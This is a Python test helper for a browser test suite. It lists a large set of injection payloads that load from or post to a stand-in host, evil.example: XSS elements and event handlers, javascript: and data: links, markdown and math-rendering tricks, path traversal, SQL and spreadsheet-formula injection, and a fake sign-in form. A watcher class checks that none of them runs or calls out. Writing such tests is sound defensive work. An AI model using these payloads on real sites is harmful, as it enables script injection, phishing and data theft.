"""Texts of somebody who wants a page to do what it should not, and a watch that sees whether it did.

Every payload that runs says so by `ran(…)`; every one that loads something loads it from `EVIL`.
"""

import pathlib

from playwright.sync_api import Page

from person import Person

EVIL = "https://evil.example"
RUN = "ran(1)"

# Elements that run, load or lead away as soon as they are parsed.
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/pixel.png 1x'>",
    f"<image href={EVIL}/pixel.png>",
    f"<picture><source srcset={EVIL}/p.png><img></picture>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><image href={EVIL}/pixel.png></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<img src=x onerror={RUN}>'></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<frameset onload={RUN}><frame src={EVIL}/frame></frameset>",
    f"<object data={EVIL}/o></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src={EVIL}/e>",
    f"<applet code={EVIL}/a.class></applet>",
    f"<video src={EVIL}/v.mp4 onerror={RUN} autoplay></video>",
    f"<video poster={EVIL}/p.png></video>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<audio src=x onerror={RUN} autoplay></audio>",
    f"<track src={EVIL}/t.vtt default>",
    f"<body onload={RUN}>",
    f"<body background={EVIL}/b.png>",
    f"<html onmouseover={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src={EVIL}/i.png>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<meter onmouseover={RUN}>x</meter>",
    f"<div onpointerenter={RUN}>x</div>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>x</div>",
    f"<p popover id=z onbeforetoggle={RUN}>x</p><button popovertarget=z>x</button>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<xss contenteditable onfocus={RUN} autofocus tabindex=1>x</xss>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=preload as=image href={EVIL}/p.png>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=prefetch href={EVIL}/next>",
    f"<link rel=icon href={EVIL}/icon.png>",
    f"<link rel=manifest href={EVIL}/m.json>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<form action={EVIL}/><input name=password><button>Sign in again</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#10;script:{RUN}'>x</a>",
    f"<a href={EVIL} ping={EVIL}/ping>x</a>",
    f"<a href={EVIL} target=_top autofocus>x</a>",
    f"<area href=javascript:{RUN} shape=default>",
    f"<map name=m><area href={EVIL}></map>",
    f"<portal src={EVIL}></portal>",
    f"<table background={EVIL}/b.png><tr><td>x</table>",
    f"<div style=background:url({EVIL}/b.png)>x</div>",
    f"<div style='width:expression({RUN})'>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<comment><img src=x onerror={RUN}></comment>",
    f"<?xml-stylesheet href={EVIL}/a.xsl?>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if true]><script>{RUN}</script><![endif]-->",
]

# Whatever a text stands in, this would leave it.
_WAYS_OUT = ['">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "`>", "</p></div></article>", "\\\">", "%22%3E", "&quot;>"]
_OUTSIDE = [f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<script>{RUN}</script>"]

# Attributes that a quote would begin.
_ATTRIBUTES = [
    f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='", f"\" style=\"background:url({EVIL}/b.png)", f"x\" src=\"{EVIL}/p.png",
    f"\" href=\"javascript:{RUN}", f"\" srcdoc=\"<script>{RUN}</script>", "\" id=\"rows", "' name='body",
]

# Markdown that becomes links, pictures, code, tables.
_MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java&#x0A;script:{RUN})",
    f"[x](java&Tab;script&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]( javascript:{RUN})",
    f"[x](javascript://%0a{RUN})",
    f"[x](javascript&#58;{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)",
    f"[x](vbscript:{RUN})",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:https://evil.example/)",
    "[x](intent://evil#Intent;scheme=https;end)",
    "[x](//evil.example/a)",
    "[x](/api/v1/session)",
    "[x](#rows)",
    "[x](?q=1)",
    "[x](\\\\evil.example\\share)",
    f"[x]({EVIL}/ \"title\" onmouseover={RUN})",
    f"[x]({EVIL}/'onmouseover='{RUN})",
    f"[x]({EVIL}/\"onmouseover=\"{RUN})",
    f"[bank.example]({EVIL})",
    f"[https://bank.example]({EVIL})",
    "https://bank.example@evil.example/",
    "https://b\u0430nk.example/",
    f"![x]({EVIL}/pixel.png)",
    f"![x]({EVIL}/pixel.png \"t\" onerror={RUN})",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![\" onerror={RUN} x=\"]({EVIL}/p.png)",
    f"[![x]({EVIL}/p.png)](javascript:{RUN})",
    f"![x][r]\n\n[r]: {EVIL}/p.png",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"[r]\n\n[r]: <javascript:{RUN}> \"t\"",
    f"<javascript:{RUN}>",
    f"<{EVIL}/><script>{RUN}</script>",
    f"<script@{EVIL}>",
    f"```html\n<script>{RUN}</script>\n```",
    f"```\"><script>{RUN}</script>\ncode\n```",
    f"```html onload={RUN}\n<img src=x onerror={RUN}>\n```",
    f"~~~ <img src=x onerror={RUN}>\ncode\n~~~",
    f"`<img src=x onerror={RUN}>`",
    f"    <script>{RUN}</script>",
    f"# <img src=x onerror={RUN}>",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| <script>{RUN}</script> | b |",
    f"- <img src=x onerror={RUN}>\n  - <svg onload={RUN}>",
    f"> <iframe src=javascript:{RUN}>",
    f"**<b onmouseover={RUN}>x</b>**",
    f"<sub onmouseover={RUN}>x</sub>",
    f"<br onmouseover={RUN}>",
    f"<kbd>{{<img src=x onerror={RUN}>}}</kbd>",
    f"<details><summary><img src=x onerror={RUN}></summary></details>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{{EVIL}/p.png}}$$",
    f":::{{onclick={RUN}}}\nx\n:::",
    f"[x]: {EVIL}/ '<script>{RUN}</script>'\n\n[x]",
]

# What templates, prototypes, paths and directions of writing make of a text.
_OTHER = [
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<%= {RUN} %>", f"#{{{RUN}}}", f"{{%{RUN}%}}", f"javascript:{RUN}",
    "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "[object Object]", "../../../etc/passwd", "..\\..\\boot.ini",
    "CON.txt", "photo\u202egpj.exe", "\u2066hidden\u2069", "\u200b\u200c\u200d", "a\u0300" * 20, "\ufeff<script>", "\U000e0041\U000e0042",
    "Robert'); DROP TABLE users;--", "%3Cscript%3Eran(1)%3C/script%3E", "\\u003cscript\\u003eran(1)\\u003c/script\\u003e", "=cmd|' /C calc'!A0",
    f"<a id=welcome href={EVIL}>x</a>", "<form id=page><input name=children></form>", "<img name=getElementById>", "<iframe name=state>",
]

# Formulas that want links, pictures, styles, names.
_FORMULAS = [
    rf"$$\url{{javascript:{RUN}}}$$",
    rf"$\includegraphics{{{EVIL}/p.png}}$",
    rf"$\htmlStyle{{background:url({EVIL}/b.png)}}{{x}}$",
    rf"$\htmlData{{x=1,onclick={RUN}}}{{x}}$",
    r"$\htmlId{rows}{x} \htmlClass{welcome}{x}$",
    rf"$\text{{<img src=x onerror={RUN}>}}_2$",
    rf"$\color{{url({EVIL}/c)}}x$",
    rf"\(x^2 <img src=x onerror={RUN}>\)",
    "```math\n" + rf"\href{{javascript:{RUN}}}{{x}}" + "\n```",
    rf"a[^<img src=x onerror={RUN}>]",
    rf"<details><summary><img src=x onerror={RUN}></summary>x</details>",
]

PAYLOADS: list[str] = ELEMENTS + [out + inside for out in _WAYS_OUT for inside in _OUTSIDE] + _ATTRIBUTES + _MARKDOWN + _FORMULAS + _OTHER

_WATCH = (pathlib.Path(__file__).parent / "hostile_watch.js").read_text()


class Watch:
    """Sees in all pages of a person whether a text became more than a text.

    Requests to other hosts, dialogs and reports of the content policy are complaints of every person already.
    """

    def __init__(self, person: Person):
        self.person = person
        self.seen: list[str] = []
        self.requests: list[str] = []
        context = person.context
        context.expose_binding("ran", lambda source, what=None: self.seen.append(f"ran in {source['frame'].url}: {what}"))
        context.expose_binding("watched", lambda _, what: self.seen.append(what))
        context.add_init_script(_WATCH)
        context.route(f"{EVIL}/**", self._refuse)
        context.on("page", self._follow)
        for page in context.pages:
            self._follow(page)

    def _refuse(self, route):
        self.requests.append(route.request.url)
        route.abort()

    def _follow(self, page: Page):
        page.on("popup", lambda popup: self.seen.append(f"popup: {popup.url}"))
        page.on("framenavigated", lambda frame: self._see_address(frame.url))
        # What the test itself downloads it takes out of the list again.
        page.on("download", lambda download: self.seen.append(f"download: {download.url}"))

    def _see_address(self, url: str):
        if not url.startswith((self.person.url + "/", "about:")):
            self.seen.append(f"navigation: {url}")

    def look(self, page: Page):
        """All that stands in the page now, and all that came and went since it was loaded."""
        self.seen += page.evaluate("watch()")
        assert not self.seen, "\n".join(self.seen[:10])
        assert not self.requests, self.requests
        self.person.check()
